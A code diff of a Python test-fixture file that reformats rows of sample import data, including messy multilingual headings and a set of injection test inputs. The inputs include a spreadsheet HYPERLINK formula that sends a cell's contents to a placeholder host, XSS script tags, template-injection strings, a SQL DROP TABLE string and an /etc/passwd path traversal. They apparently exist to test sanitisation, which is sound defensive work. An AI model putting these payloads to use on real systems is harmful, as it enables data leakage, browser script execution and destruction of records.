@@ -73,7 +73,16 @@ UTF16: Rows = [
 # Headings by many hands
 
 MESSY: Rows = [
-    ("RÉFÉRENCE  EXTERNE :", "Montant (€)", "  cola", "Prioridad!", "Task Typ", "Libellé…", "Attribut: langue", "Agence"),
+    (
+        "RÉFÉRENCE  EXTERNE :",
+        "Montant (€)",
+        "  cola",
+        "Prioridad!",
+        "Task Typ",
+        "Libellé…",
+        "Attribut: langue",
+        "Agence",
+    ),
     ("MH-001", 120.5, "Billing", 50, "call", "Facture de mars prélevée deux fois", "fr", "Lyon"),
     ("MH-002", 80, "Claims", 70, "email", "Colis arrivé endommagé, photos jointes", "fr", "Lille"),
     ("MH-003", None, "billing", 20, "chat", "La factura no llegó por correo", "es", "Madrid"),
@@ -144,7 +153,14 @@ def _injection() -> Rows:
         ("INJ-004", "Billing", "50", "email", "-2+3", "-1"),
         ("INJ-005", "Billing", "50", "email", '=HYPERLINK("https://example.invalid/?"&A2,"Open the invoice")', ""),
         ("INJ-006", "Billing", "50", "email", "https://example.invalid/a-link-that-nobody-should-follow", ""),
-        ("INJ-007", "Claims", "50", "email", "<script>alert('xss')</script><img src=x onerror=alert(1)>", "<b>bold</b>"),
+        (
+            "INJ-007",
+            "Claims",
+            "50",
+            "email",
+            "<script>alert('xss')</script><img src=x onerror=alert(1)>",
+            "<b>bold</b>",
+        ),
         ("INJ-008", "Claims", "50", "email", "{{7*7}} ${7*7} {id} %s %n", "{external_id.__class__}"),
         ("INJ-009", "Claims", "50", "email", "'; DROP TABLE tasks; --", "../../etc/passwd"),
         ("INJ-010", "Claims", "50", "email", "Bell \x07 and red \x1b[31mletters\x1b[0m for the terminal", "\x0b"),
